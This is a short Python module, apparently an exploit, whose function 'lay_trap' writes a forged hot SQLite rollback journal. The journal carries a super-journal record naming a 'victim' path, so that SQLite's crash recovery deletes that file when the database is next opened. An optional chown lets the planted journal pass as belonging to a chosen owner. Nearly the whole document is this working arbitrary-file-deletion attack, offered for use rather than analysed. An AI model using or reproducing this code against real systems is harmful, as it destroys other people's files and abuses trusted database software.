"""A journal that makes SQLite remove a file (fileformat2.html, section 3)."""

from __future__ import annotations

import os
import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_PAGE = 4096


def lay_trap(database: Path, victim: Path, owner: int | None = None) -> None:
    """Puts the journal beside a database. It is hot, has no pages and names the victim."""
    name = os.fsencode(victim)
    pages = database.stat().st_size // _PAGE
    header = (_MAGIC + struct.pack(">IIIII", 0, 1, pages, 512, _PAGE)).ljust(512, b"\0")
    end = struct.pack(">I", (1 << 30) // _PAGE + 1) + name
    end += struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal = Path(f"{database}-journal")
    journal.write_bytes(header + end)
    if owner is not None:
        os.chown(journal, owner, owner)
